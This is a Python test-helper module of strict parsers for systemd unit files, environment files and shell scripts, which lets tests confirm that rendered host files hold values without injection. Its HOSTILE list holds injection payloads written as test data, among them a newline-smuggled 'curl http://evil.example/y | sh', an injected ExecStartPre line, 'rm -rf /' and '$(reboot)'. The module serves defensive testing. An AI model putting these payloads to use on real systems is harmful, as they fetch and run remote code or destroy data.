"""Strict readers of the host-file formats, written from the formats' own rules, for tests.

They read a file the way its consumer does (systemd, docker's environment, sh), so a test can
assert that a rendered file means exactly what was intended: a unit has exactly the sections,
keys and command arguments expected; an env file exactly the names and values; a shell script
parses and holds each value only as one quoted word in its assignment block.
"""

from __future__ import annotations

import re
import shlex
import subprocess
from dataclasses import dataclass, field

HOSTILE = [
    "/health\ncurl http://evil.example/y | sh\n#",
    "m\nExecStartPre=/bin/evil",
    "x\nMODEL_PATH=/etc",
    '"; rm -rf / #',
    "$(reboot)",
    "`reboot`",
    "%n%i%%",
    "${HOME}$HOME$$",
    "a\\",
    "\\;",
    ";",
    "line\u2028separator\u2029paragraph\x85next",
    "tab\there\rcr\x1bescape\x7fdel",
    "'single' \"double\"",
    "",
    " leading and trailing ",
]
"""The issue's examples and the characters each format gives a meaning to."""


class FormatError(AssertionError):
    """The text is not what the format's consumer would read back cleanly."""


# --- systemd unit files: systemd.syntax(7), systemd.service(5) "Command lines" ------------------

_C_ESCAPES = {"a": "\a", "b": "\b", "f": "\f", "n": "\n", "r": "\r", "t": "\t", "v": "\v", "s": " "}
_C_ESCAPES.update({"\\": "\\", '"': '"', "'": "'"})


@dataclass
class Unit:
    sections: list[tuple[str, list[tuple[str, str]]]] = field(default_factory=list)

    def keys(self) -> list[tuple[str, str]]:
        return [(section, key) for section, settings in self.sections for key, _ in settings]

    def values(self, section: str, key: str) -> list[str]:
        return [v for name, settings in self.sections if name == section for k, v in settings if k == key]


def parse_unit(text: str) -> Unit:
    """Sections and settings as systemd reads them: continuation lines joined, comments dropped."""
    unit = Unit()
    lines = text.split("\n")
    index = 0
    while index < len(lines):
        line = lines[index]
        index += 1
        while line.endswith("\\") and index < len(lines):  # a trailing backslash continues the line
            line = line[:-1] + " " + lines[index]
            index += 1
        stripped = line.strip()
        if not stripped or stripped[0] in "#;":
            continue
        if stripped.startswith("["):
            if not stripped.endswith("]"):
                raise FormatError(f"bad section header {stripped!r}")
            unit.sections.append((stripped[1:-1], []))
            continue
        if "=" not in stripped:
            raise FormatError(f"line is neither a section nor an assignment: {stripped!r}")
        if not unit.sections:
            raise FormatError(f"assignment outside a section: {stripped!r}")
        key, value = stripped.split("=", 1)
        unit.sections[-1][1].append((key.strip(), value.strip()))
    return unit


def resolve_specifiers(value: str) -> str:
    """`%%` -> `%`; any other specifier is an expansion the writer did not intend."""
    out, index = [], 0
    while index < len(value):
        if value[index] == "%":
            if value[index + 1 : index + 2] != "%":
                raise FormatError(f"specifier %{value[index + 1 : index + 2]} in {value!r}")
            out.append("%")
            index += 2
        else:
            out.append(value[index])
            index += 1
    return "".join(out)


def _c_unescape(text: str, index: int) -> tuple[str, int]:
    """The character of the C escape starting after the backslash at text[index - 1]."""
    letter = text[index]
    if letter in _C_ESCAPES:
        return _C_ESCAPES[letter], index + 1
    widths = {"x": 2, "u": 4, "U": 8}
    if letter in widths:
        digits = text[index + 1 : index + 1 + widths[letter]]
        if len(digits) != widths[letter] or not re.fullmatch(r"[0-9a-fA-F]+", digits) or int(digits, 16) == 0:
            raise FormatError(f"bad escape \\{letter}{digits}")
        return chr(int(digits, 16)), index + 1 + widths[letter]
    if letter in "01234567":
        digits = text[index : index + 3]
        if not re.fullmatch(r"[0-7]{3}", digits) or int(digits, 8) == 0:
            raise FormatError(f"bad octal escape \\{digits}")
        return chr(int(digits, 8)), index + 3
    raise FormatError(f"unknown escape \\{letter}")


def split_command(value: str) -> tuple[str, list[str]]:
    """(prefix, argv) of a command line after specifiers, quotes, C escapes and `$` substitution."""
    line = resolve_specifiers(value)
    prefix_match = re.match(r"[-@+!:]*", line)
    prefix = prefix_match.group(0) if prefix_match else ""
    line = line[len(prefix) :]
    words: list[str] = []
    index = 0
    while index < len(line):
        if line[index] in " \t":
            index += 1
            continue
        if line[index] == ";" and (index + 1 == len(line) or line[index + 1] in " \t"):
            raise FormatError(f"a second command (;) in {value!r}")
        word: list[str] = []
        quote = None
        if line[index] in "\"'":
            quote = line[index]
            index += 1
        while index < len(line):
            char = line[index]
            if quote is None and char in " \t":
                break
            if quote is not None and char == quote:
                index += 1
                if index < len(line) and line[index] not in " \t":
                    raise FormatError(f"closing quote not followed by whitespace in {value!r}")
                quote = "closed"
                break
            if char == "\\":
                if index + 1 >= len(line):
                    raise FormatError(f"dangling backslash in {value!r}")
                unescaped, index = _c_unescape(line, index + 1)
                word.append(unescaped)
                continue
            word.append(char)
            index += 1
        if quote not in (None, "closed"):
            raise FormatError(f"unterminated quote in {value!r}")
        words.append("".join(word))
    return prefix, [_substitute(word) for word in words]


def _substitute(word: str) -> str:
    """`$$` -> `$`; a `$NAME` or `${NAME}` substitution is an expansion the writer did not intend."""
    out, index = [], 0
    while index < len(word):
        if word[index] == "$":
            following = word[index + 1 : index + 2]
            if following == "$":
                out.append("$")
                index += 2
                continue
            if following == "{" or re.match(r"[A-Za-z_]", following):
                raise FormatError(f"variable substitution in {word!r}")
        out.append(word[index])
        index += 1
    return "".join(out)


# --- EnvironmentFile=: systemd's load_env_file (src/basic/env-file.c) ---------------------------

_SHELL_NEED_ESCAPE = '"\\`$'


def _double_quoted(text: str, index: int, name: str) -> tuple[str, int]:
    """The value of a double-quoted assignment starting at `index`, and where the next line starts."""
    value: list[str] = []
    while True:
        if index >= len(text):
            raise FormatError(f"unterminated value of {name}")
        char = text[index]
        if char == '"':
            index += 1
            break
        if char == "\\":
            following = text[index + 1 : index + 2]
            if following and following in _SHELL_NEED_ESCAPE:
                value.append(following)
            elif following != "\n":  # a backslash-newline continues the line
                value.append("\\" + following)
            index += 2
            continue
        value.append(char)
        index += 1
    rest_end = text.find("\n", index)
    rest = text[index : len(text) if rest_end < 0 else rest_end]
    if rest.strip():
        raise FormatError(f"text after the closing quote of {name}: {rest!r}")
    return "".join(value), len(text) if rest_end < 0 else rest_end + 1


def parse_environment_file(text: str) -> dict[str, str]:
    """Assignments as systemd reads them; a repeated name is an error here (the last would win)."""
    variables: dict[str, str] = {}
    index = 0
    while index < len(text):
        if text[index] in " \t\r\n":
            index += 1
            continue
        if text[index] in "#;":
            index = text.find("\n", index) + 1 or len(text)
            continue
        match = re.compile(r"([A-Za-z_][A-Za-z0-9_]*)=").match(text, index)
        if match is None:
            raise FormatError(f"not an assignment at {text[index : index + 20]!r}")
        name = match.group(1)
        index = match.end()
        value: list[str] = []
        if text[index : index + 1] == '"':
            quoted, index = _double_quoted(text, index + 1, name)
            value.append(quoted)
        else:
            end = text.find("\n", index)
            raw = text[index : len(text) if end < 0 else end]
            if any(c in raw for c in "\"'\\"):
                raise FormatError(f"unquoted value of {name} with quotes or escapes: {raw!r}")
            value.append(raw.strip())
            index = len(text) if end < 0 else end + 1
        if name in variables:
            raise FormatError(f"{name} is assigned twice")
        variables[name] = "".join(value)
    return variables


# --- shell scripts ------------------------------------------------------------------------------


def check_shell(text: str) -> None:
    """`bash -n` and `sh -n` (dash) accept the script."""
    for shell in ("bash", "sh"):
        result = subprocess.run([shell, "-n"], input=text, capture_output=True, text=True, check=False)
        if result.returncode != 0:
            raise FormatError(f"{shell} -n: {result.stderr.strip()}")


def script_values(text: str, header: str, body: str) -> dict[str, str]:
    """The values a `header + assignments + body` script sets, as bash itself reads the assignments.

    The text around the assignments must be exactly the fixed header and body; each assignment
    must be one `name=word` token (shlex, POSIX rules); bash then evaluates the block alone and
    prints each variable NUL-terminated, so a quoting mistake shows as a wrong value or an error.
    """
    if not (text.startswith(header) and text.endswith(body)):
        raise FormatError("the script's fixed text around the assignments changed")
    block = text[len(header) : len(text) - len(body)]
    tokens = shlex.split(block, posix=True)
    names = [token.partition("=")[0] for token in tokens]
    if any(not re.fullmatch(r"[a-z_][a-z0-9_]*=.*", token, re.DOTALL) for token in tokens):
        raise FormatError(f"the assignment block holds more than assignments: {tokens!r}")
    printer = "".join(f'printf "%s\\0" "${name}"\n' for name in names)
    result = subprocess.run(
        ["/bin/bash", "--norc", "--noprofile", "-c", block + "\n" + printer],
        capture_output=True,
        check=False,
        env={"PATH": "/nonexistent"},
    )
    if result.returncode != 0 or result.stderr:
        raise FormatError(f"bash could not evaluate the assignments: {result.stderr!r}")
    printed = result.stdout.decode("utf-8", "surrogateescape").split("\0")[:-1]
    shlex_values = dict(token.split("=", 1) for token in tokens)
    bash_values = dict(zip(names, printed, strict=True))
    if shlex_values != bash_values:
        raise FormatError(f"shlex and bash disagree: {shlex_values!r} != {bash_values!r}")
    return bash_values
